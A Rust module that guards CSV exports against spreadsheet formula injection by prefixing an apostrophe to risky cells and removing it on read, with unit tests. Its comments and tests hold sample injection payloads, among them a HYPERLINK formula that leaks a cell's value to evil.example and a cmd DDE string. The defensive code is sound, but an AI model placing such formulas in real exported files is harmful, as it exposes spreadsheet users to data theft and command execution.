//! CSV tables whose cells a spreadsheet never takes for a formula
//! (docs/export.md#csv-and-spreadsheets).
//!
//! Policy sentences, subjects and URLs are third-party text: a page can say
//! `=HYPERLINK("https://evil.example/?"&A1)`, and a spreadsheet that opens the CSV would
//! evaluate it. Every text cell goes through [`CsvTableWriter`], which puts a `'` before
//! a cell that starts like a formula (OWASP's mitigation); [`read_rows`] takes it off
//! again, so an incremental run reads back exactly the text it wrote. JSON Lines and
//! SQLite keep the exact text.

use std::borrow::Cow;
use std::io;

use serde::Serialize;
use serde::de::DeserializeOwned;

/// The first characters with which a spreadsheet starts a formula (or, for tab and
/// carriage return, hides one after them).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, once leading apostrophes are removed, starts like a formula. The
/// apostrophes count so that a text that itself starts with `'=` gets one more and reads
/// back unchanged.
fn looks_like_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// The cell for `text`: `'` before a text that starts like a formula, else the text.
pub fn protect(text: &str) -> Cow<'_, str> {
    if looks_like_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a cell that [`protect`] wrote.
pub fn unprotect(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(text) if looks_like_formula(text) => text,
        _ => cell,
    }
}

/// What can go wrong writing or reading a table.
#[derive(Debug, thiserror::Error)]
pub enum CsvTableError {
    #[error(transparent)]
    Csv(#[from] csv::Error),
    #[error(transparent)]
    Io(#[from] io::Error),
    /// A row type and its column list disagree: a bug, said plainly.
    #[error("a row does not match the table's columns: {0}")]
    Columns(String),
}

/// Writes rows of one table, cell by cell, in the order of its columns.
pub struct CsvTableWriter<W: io::Write> {
    writer: csv::Writer<W>,
    columns: &'static [&'static str],
}

impl<W: io::Write> CsvTableWriter<W> {
    pub fn new(out: W, columns: &'static [&'static str]) -> CsvTableWriter<W> {
        CsvTableWriter {
            writer: csv::WriterBuilder::new().has_headers(false).from_writer(out),
            columns,
        }
    }

    pub fn write_header(&mut self) -> Result<(), CsvTableError> {
        Ok(self.writer.write_record(self.columns)?)
    }

    /// Writes one row: a struct whose fields are the table's columns, text, numbers or
    /// absent values.
    pub fn write_row<T: Serialize>(&mut self, row: &T) -> Result<(), CsvTableError> {
        let value = serde_json::to_value(row).map_err(|e| CsvTableError::Columns(e.to_string()))?;
        let serde_json::Value::Object(fields) = value else {
            return Err(CsvTableError::Columns("the row is not a struct".into()));
        };
        if fields.len() != self.columns.len() {
            return Err(CsvTableError::Columns(format!(
                "{} fields for {} columns",
                fields.len(),
                self.columns.len()
            )));
        }
        let mut cells: Vec<Cow<'_, str>> = Vec::with_capacity(self.columns.len());
        for column in self.columns {
            let cell = match fields.get(*column) {
                Some(serde_json::Value::String(text)) => protect(text),
                Some(serde_json::Value::Null) => Cow::Borrowed(""),
                Some(serde_json::Value::Number(number)) => Cow::Owned(number.to_string()),
                Some(other) => return Err(CsvTableError::Columns(format!("{column} holds {other}"))),
                None => return Err(CsvTableError::Columns(format!("no field {column}"))),
            };
            cells.push(cell);
        }
        Ok(self.writer.write_record(cells.iter().map(|c| c.as_bytes()))?)
    }

    pub fn flush(&mut self) -> Result<(), CsvTableError> {
        Ok(self.writer.flush()?)
    }
}

/// Reads every row of a table that [`CsvTableWriter`] wrote (a header, then rows), with
/// the text of each cell restored.
pub fn read_rows<T: DeserializeOwned>(input: impl io::Read) -> Result<Vec<T>, CsvTableError> {
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(input);
    let headers = reader.headers()?.clone();
    let mut rows = Vec::new();
    for record in reader.records() {
        let restored: csv::StringRecord = record?.iter().map(unprotect).collect();
        rows.push(restored.deserialize(Some(&headers))?);
    }
    Ok(rows)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, PartialEq, Serialize, serde::Deserialize)]
    struct Row {
        id: i64,
        sentence: String,
        note: Option<String>,
    }

    const COLUMNS: &[&str] = &["id", "sentence", "note"];

    #[test]
    fn cells_that_start_like_a_formula_get_an_apostrophe() {
        for (text, cell) in [
            (
                "=HYPERLINK(\"http://evil.example\")",
                "'=HYPERLINK(\"http://evil.example\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("- We share data.", "'- We share data."),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("We keep data = 30 days.", "We keep data = 30 days."),
            ("'quoted' text", "'quoted' text"),
            ("", ""),
        ] {
            assert_eq!(protect(text), cell, "{text:?}");
            assert_eq!(unprotect(cell), text, "{cell:?}");
        }
    }

    #[test]
    fn rows_read_back_as_written_and_the_file_has_no_bare_formula() {
        let rows = vec![
            Row {
                id: 1,
                sentence: "=HYPERLINK(\"http://evil.example/?\"&A1)".into(),
                note: None,
            },
            Row {
                id: -2,
                sentence: "''@x".into(),
                note: Some("-".into()),
            },
            Row {
                id: 3,
                sentence: "We keep data for 30 days.".into(),
                note: Some("'a'".into()),
            },
        ];
        let mut out = Vec::new();
        let mut writer = CsvTableWriter::new(&mut out, COLUMNS);
        writer.write_header().unwrap();
        for row in &rows {
            writer.write_row(row).unwrap();
        }
        writer.flush().unwrap();
        drop(writer);
        let text = String::from_utf8(out.clone()).unwrap();
        assert_eq!(
            text,
            "id,sentence,note\n\
             1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",\n\
             -2,'''@x,'-\n\
             3,We keep data for 30 days.,'a'\n"
        );
        assert_eq!(read_rows::<Row>(out.as_slice()).unwrap(), rows);
    }

    #[test]
    fn a_row_that_does_not_match_the_columns_is_refused() {
        let mut writer = CsvTableWriter::new(Vec::new(), &["id", "sentence"]);
        let row = Row {
            id: 1,
            sentence: String::new(),
            note: None,
        };
        assert!(matches!(writer.write_row(&row), Err(CsvTableError::Columns(_))));
    }
}
